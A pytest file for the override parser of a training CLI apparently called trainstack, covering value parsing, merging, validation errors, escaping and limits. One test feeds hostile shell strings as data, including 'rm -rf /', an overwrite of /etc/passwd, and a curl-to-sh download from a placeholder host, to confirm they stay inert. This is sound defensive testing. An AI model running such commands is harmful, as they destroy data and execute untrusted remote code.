"""``--set`` and ``--set-string``: read as the experiment file reads a value, validated by the
job's model with the words a file gets, hostile values kept as data."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.cli_helpers import project_copy, run
from trainstack.core.errors import ExperimentError
from trainstack.experiments.overrides import (
    MAX_OVERRIDES,
    Override,
    overrides_mapping,
    overrides_words,
    parse_overrides,
    read_recorded,
    recorded_json,
)


def _values(*items: str, strings: tuple[str, ...] = ()) -> dict[str, object]:
    return overrides_mapping(parse_overrides(items, strings))


def test_values_are_read_as_the_file_reads_them() -> None:
    assert _values("worker.gpus=2") == {"worker": {"gpus": 2}}
    assert _values('env.BATCH="256"') == {"env": {"BATCH": "256"}}
    assert _values("worker={replicas: 2, gpus: 1}") == {"worker": {"replicas": 2, "gpus": 1}}
    assert _values("security.seccompProfile=null") == {"security": {"seccompProfile": None}}
    assert _values("arenaSubmit=yes") == {"arenaSubmit": True}  # Helm's YAML 1.1
    assert _values("job.worker.gpus=2") == {"worker": {"gpus": 2}}  # as messages spell it
    assert _values("labels.team\\.example\\.com/owner=ml") == {
        "labels": {"team.example.com/owner": "ml"}
    }


def test_later_values_merge_over_earlier_ones_like_the_stacks_overrides() -> None:
    assert _values("worker.gpus=4", "worker={replicas: 2}", "worker.gpus=1") == {
        "worker": {"gpus": 1, "replicas": 2}
    }


def test_set_string_and_line_breaks_keep_the_text_as_typed() -> None:
    assert _values(strings=("env.BATCH=256",)) == {"env": {"BATCH": "256"}}
    assert _values("command=echo a\necho b") == {"command": "echo a\necho b"}


@pytest.mark.parametrize(
    "value",
    [
        "sh -c 'rm -rf /; echo $(id)' && `reboot` | tee /etc/passwd > x < y",
        "$(curl http://example.invalid/x | sh)",
        "a\nb: c\nworker: {gpus: 64}",
    ],
)
def test_shell_metacharacters_and_newlines_are_data(value: str) -> None:
    (override,) = parse_overrides([f"command={value}"], ())
    assert override.value == value
    assert overrides_mapping([override]) == {"command": value}  # no key of its own added


@pytest.mark.parametrize(
    ("item", "found"),
    [
        ("worker.gpus", "'worker.gpus' (no '=')"),
        ("=2", "the key ''"),
        ("worker..gpus=2", "the key 'worker..gpus'"),
        ("worker.gpus\\=2", "the key 'worker.gpus\\\\'"),
        ("\x1b[31mworker=1", "the key '\\x1b[31mworker'"),
    ],
)
def test_a_malformed_option_is_one_error_naming_it(item: str, found: str) -> None:
    with pytest.raises(ExperimentError, match="KEY=VALUE") as raised:
        parse_overrides([item], ())
    (problem,) = raised.value.problems
    assert problem.path == "--set"
    assert problem.found == found


def test_a_value_yaml_refuses_names_the_key_and_the_way_out() -> None:
    with pytest.raises(ExperimentError, match="quote text holding") as raised:
        parse_overrides(["command=echo: hi"], ())
    (problem,) = raised.value.problems
    assert problem.path == "job.command"
    assert problem.found.startswith("'echo: hi': invalid YAML (mapping values are not allowed")
    assert "--set-string" in problem.allowed


def test_control_characters_in_a_value_are_refused_and_shown_escaped() -> None:
    with pytest.raises(ExperimentError) as raised:
        parse_overrides(["command=a\x1b[2Jb"], ())
    assert "\x1b" not in str(raised.value)
    assert "\\x1b[2J" in str(raised.value)


def test_how_many_and_how_large_are_bounded() -> None:
    with pytest.raises(ExperimentError, match=f"at most {MAX_OVERRIDES}"):
        parse_overrides([f"env.V{i}=1" for i in range(MAX_OVERRIDES + 1)], ())
    with pytest.raises(ExperimentError, match="bytes of values in all"):
        parse_overrides([], [f"env.V{i}={'x' * 1000}" for i in range(20)])


def test_recorded_form_reads_back_and_refuses_what_trainstack_never_writes() -> None:
    mapping = _values("worker.gpus=2", 'env.A="1"')
    text = recorded_json(mapping)
    assert text == '{"env":{"A":"1"},"worker":{"gpus":2}}'
    assert read_recorded(text) == mapping
    assert read_recorded("[1]") is None
    assert read_recorded("{not json") is None
    assert read_recorded("[" * 100 + "]" * 100) is None  # nesting checked on the bytes
    assert overrides_words(mapping) == '--set env.A="1" --set worker.gpus=2'
    assert overrides_words({}) == "none"


def test_shown_escapes_what_was_typed() -> None:
    override = Override("--set", "command=a\nb", ("command",), "a\nb")
    assert override.shown() == "--set command=a\\nb"


# Through `trainstack run --dry-run`: the same model, the same words as a file.


@pytest.fixture()
def root(tmp_path: Path) -> Path:
    copy = project_copy(tmp_path / "project")
    (copy / "charts").symlink_to(Path(__file__).parents[2] / "charts")
    return copy


def _file_error(root: Path, monkeypatch: pytest.MonkeyPatch, old: str, new: str) -> str:
    """The error a plan gives when the experiment file itself says ``new``."""
    path = root / "experiments" / "imagenet-tensorflow.yaml"
    original = path.read_text()
    path.write_text(original.replace(old, new))
    try:
        ran = run(root, "plan", "aiacc", "-o", str(root / "build"), monkeypatch=monkeypatch)
    finally:
        path.write_text(original)
    assert ran.code == 2
    return ran.stderr


@pytest.mark.parametrize(
    ("option", "old", "new"),
    [
        ("worker.gpuz=4", "    gpus: 4", "    gpuz: 4"),  # a typo
        ("worker.gpus=four", "    gpus: 4", "    gpus: four"),  # a wrong type
        ("workers=4", "  worker:\n", "  workers: 4\n  worker:\n"),  # an unknown key
        ("worker.gpus=99999999999999999999999", "    gpus: 4", "    gpus: 99999999999999999999999"),
        ("worker.replicas=" + "9" * 5000, "    replicas: 4", "    replicas: " + "9" * 5000),
    ],
)
def test_a_bad_set_is_the_error_the_same_value_in_the_file_gives(
    root: Path, monkeypatch: pytest.MonkeyPatch, option: str, old: str, new: str
) -> None:
    ran = run(
        root,
        *("run", "imagenet-tensorflow", "--stack", "aiacc", "--set", option, "--dry-run"),
        monkeypatch=monkeypatch,
    )
    assert ran.code == 2 and ran.stdout == ""
    (line,) = ran.stderr.splitlines()
    assert line.startswith("error: invalid experiment in --set ")
    problem = line.split(": ", 2)[2]
    in_file = _file_error(root, monkeypatch, old, new)
    assert f": {problem}\n" in in_file, in_file
